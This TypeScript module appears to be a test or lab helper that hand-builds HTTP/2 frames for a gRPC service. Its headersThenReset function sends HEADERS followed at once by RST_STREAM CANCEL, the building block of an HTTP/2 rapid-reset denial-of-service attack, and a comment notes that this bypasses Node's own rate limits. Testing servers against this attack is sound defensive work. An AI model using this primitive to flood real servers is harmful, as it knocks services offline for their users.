// Just enough HTTP/2 (RFC 9113) to speak to a gRPC server frame by frame, as an attacker does:
// the client preface, SETTINGS and PING acknowledgements, one reusable HEADERS block for
// POST /vgpu.v1.Guest/Session (HPACK literals without indexing, so no table state), and
// RST_STREAM. Node's own http2 client will not send a stream's reset before the server has
// room for the stream, which caps a rapid reset at a few hundred streams a second.

export const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");

export const FRAME = { HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7 } as const;
const END_HEADERS = 0x4;
const ACK = 0x1;
export const CANCEL = 0x8;

/** HTTP/2 error codes by number (GOAWAY, RST_STREAM). */
const ERROR_NAMES = [
  "NO_ERROR",
  "PROTOCOL_ERROR",
  "INTERNAL_ERROR",
  "FLOW_CONTROL_ERROR",
  "SETTINGS_TIMEOUT",
  "STREAM_CLOSED",
  "FRAME_SIZE_ERROR",
  "REFUSED_STREAM",
  "CANCEL",
  "COMPRESSION_ERROR",
  "CONNECT_ERROR",
  "ENHANCE_YOUR_CALM",
  "INADEQUATE_SECURITY",
  "HTTP_1_1_REQUIRED",
];
export const errorCodeName = (code: number) => ERROR_NAMES[code] ?? String(code);

export function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

/** An HPACK string literal, not Huffman-coded (short strings only). */
function literal(s: string): Buffer {
  const bytes = Buffer.from(s, "latin1");
  if (bytes.length > 126) throw new Error("header too long for this encoder");
  return Buffer.concat([Buffer.of(bytes.length), bytes]);
}

/** The header block of a gRPC call to `path` on `authority`. */
export function grpcHeaderBlock(authority: string, path: string, scheme: "http" | "https"): Buffer {
  return Buffer.concat([
    Buffer.of(0x83), // :method POST (static index 3)
    Buffer.of(scheme === "http" ? 0x86 : 0x87), // :scheme (6 or 7)
    Buffer.of(0x04),
    literal(path), // :path, name index 4, literal value
    Buffer.of(0x01),
    literal(authority), // :authority, name index 1
    Buffer.of(0x0f, 0x10),
    literal("application/grpc"), // content-type, name index 31
    Buffer.of(0x00),
    literal("te"),
    literal("trailers"),
  ]);
}

export const settingsAck = () => frame(FRAME.SETTINGS, ACK, 0, Buffer.alloc(0));
export const emptySettings = () => frame(FRAME.SETTINGS, 0, 0, Buffer.alloc(0));

export function headersThenReset(block: Buffer, streamId: number): Buffer {
  const code = Buffer.alloc(4);
  code.writeUInt32BE(CANCEL);
  return Buffer.concat([
    frame(FRAME.HEADERS, END_HEADERS, streamId, block),
    frame(FRAME.RST_STREAM, 0, streamId, code),
  ]);
}

/** Reads frames from a byte stream; calls `onFrame` for each complete one. */
export class FrameReader {
  private pending: Buffer = Buffer.alloc(0);
  constructor(private readonly onFrame: (type: number, flags: number, payload: Buffer) => void) {}
  push(chunk: Buffer): void {
    this.pending = this.pending.length === 0 ? chunk : Buffer.concat([this.pending, chunk]);
    while (this.pending.length >= 9) {
      const length = this.pending.readUIntBE(0, 3);
      if (this.pending.length < 9 + length) return;
      const type = this.pending[3]!;
      const flags = this.pending[4]!;
      this.onFrame(type, flags, this.pending.subarray(9, 9 + length));
      this.pending = this.pending.subarray(9 + length);
    }
  }
}

export function answerControl(
  type: number,
  flags: number,
  payload: Buffer,
  write: (b: Buffer) => void,
): void {
  if (type === FRAME.SETTINGS && !(flags & ACK)) write(settingsAck());
  if (type === FRAME.PING && !(flags & ACK)) write(frame(FRAME.PING, ACK, 0, payload));
}
